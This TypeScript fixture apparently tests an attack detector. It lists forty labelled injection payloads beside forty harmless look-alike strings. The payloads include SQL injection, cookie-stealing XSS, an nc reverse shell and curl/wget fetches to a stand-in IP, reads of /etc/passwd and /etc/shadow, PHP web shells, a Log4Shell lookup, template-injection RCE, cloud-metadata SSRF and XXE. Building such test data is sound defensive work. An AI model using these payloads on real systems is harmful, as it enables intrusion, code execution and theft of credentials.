/** Forty attacks of all classes that are found as they stand, and as many harmless values that look a little like them. */

/** An attack as a tester would put it into a parameter. */
export interface Attack {
  readonly language: 'sql' | 'markup' | 'shell' | 'path' | 'code' | 'url' | 'other'
  readonly text: string
}

const of =
  (language: Attack['language']) =>
  (text: string): Attack => ({ language, text })

export const ATTACKS: readonly Attack[] = [
  ...[
    "1' union select username, password from users-- -",
    "admin' or '1'='1",
    "1'; drop table users-- -",
    "1' and sleep(5)-- -",
    '1 and extractvalue(1,concat(0x7e,(select version())))',
    "') or ('1'='1'-- -",
    "1' order by 10-- -",
    '-1 union all select table_name from information_schema.tables',
  ].map(of('sql')),
  ...[
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(document.cookie)>',
    '"><svg/onload=confirm(1)>',
    'javascript:alert(document.domain)',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<body onload=alert(1)>',
  ].map(of('markup')),
  ...[
    ';cat /etc/passwd',
    '| nc -e /bin/sh 203.0.113.7 4444',
    '$(curl http://203.0.113.7/x.sh)',
    '&& wget http://203.0.113.7/a.sh',
    '() { :; }; /bin/bash -c "id"',
    '; powershell -enc aQBkAA==',
    'x;/bin/cat /etc/shadow',
  ].map(of('shell')),
  ...[
    '../../../../etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '/proc/self/environ',
    'php://filter/convert.base64-encode/resource=index.php',
  ].map(of('path')),
  ...[
    '<?php system($_GET["c"]); ?>',
    'eval(base64_decode($_POST["x"]));',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what the attack looks like
    '${jndi:ldap://evil.example/a}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: as above
    '${T(java.lang.Runtime).getRuntime().exec("id")}',
    '{{7*7}}',
    '{{config.__class__.__init__.__globals__["os"].popen("id").read()}}',
    '<%= system("id") %>',
    'require("child_process").exec("id")',
    '__import__("os").system("id")',
  ].map(of('code')),
  ...[
    'http://169.254.169.254/latest/meta-data/',
    'gopher://127.0.0.1:6379/_FLUSHALL',
    'http://203.0.113.7/shell.txt?',
  ].map(of('url')),
  ...[
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    '*)(uid=*))(|(uid=*',
    "' || this.password.match(/.*/) || '",
  ].map(of('other')),
]

/** What people and applications send: prose, names, code, addresses, with the signs that attacks are made of. */
export const HARMLESS: readonly string[] = [
  'blue running shoes',
  "O'Brien & Sons",
  'Rock & Roll; the best of 1977',
  'it\'s "fine", isn\'t it? -- yes!',
  '50% off: buy 2, get 1 free (today only)',
  'https://shop.example/products?id=17&sort=price#reviews',
  '2026-03-14T09:26:53.589Z',
  'Tom <tom@shop.example>',
  'if (a < b && c > d) { return a + b; }',
  'select a size and order from the list',
  'the union of students in select cities',
  '{"id":17,"name":"Ann","tags":["a","b"]}',
  'src/app/main.ts: fix #123 (see ../docs/readme.md)',
  'price between 10 and 20 or free',
  'C:\\Users\\ann\\Pictures\\holiday (1).jpg',
  'a=1; b=2; path=/; secure',
  'Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101',
  '<b>bold</b> and <i>italic</i><br/>',
  "l'été à Orléans, c'est chaud",
  'Grüße aus München; schöne Tage',
  '東京タワーの入場料はいくらですか',
  'Москва, ул. Тверская, д. 7',
  '+44 (0)20 7946 0958',
  'null',
  'ann.lee+newsletter@mail.example',
  'SKU-9981/B (black), 3 pcs.',
  'How do I drop off my car? And where',
  'x = y * 2 + z / 3 - 1',
  '#winter #sale !important',
  'a|b|c',
  'total: $1,299.00 (incl. 20% VAT)',
  'Chapter 1 -- The beginning',
  '1 or 2 persons, or more',
  "the users' guide; the admins' notes",
  '/* a comment */ color: red;',
  'M 10 10 L 20 20 Z',
  'cats, dogs and 3 more; birds',
  '[x] done / [ ] open',
  'http://blog.example/2026/01/hello-world/',
  'Hello,\n\nthank you for your order.\n\nBest,\nAnn',
]
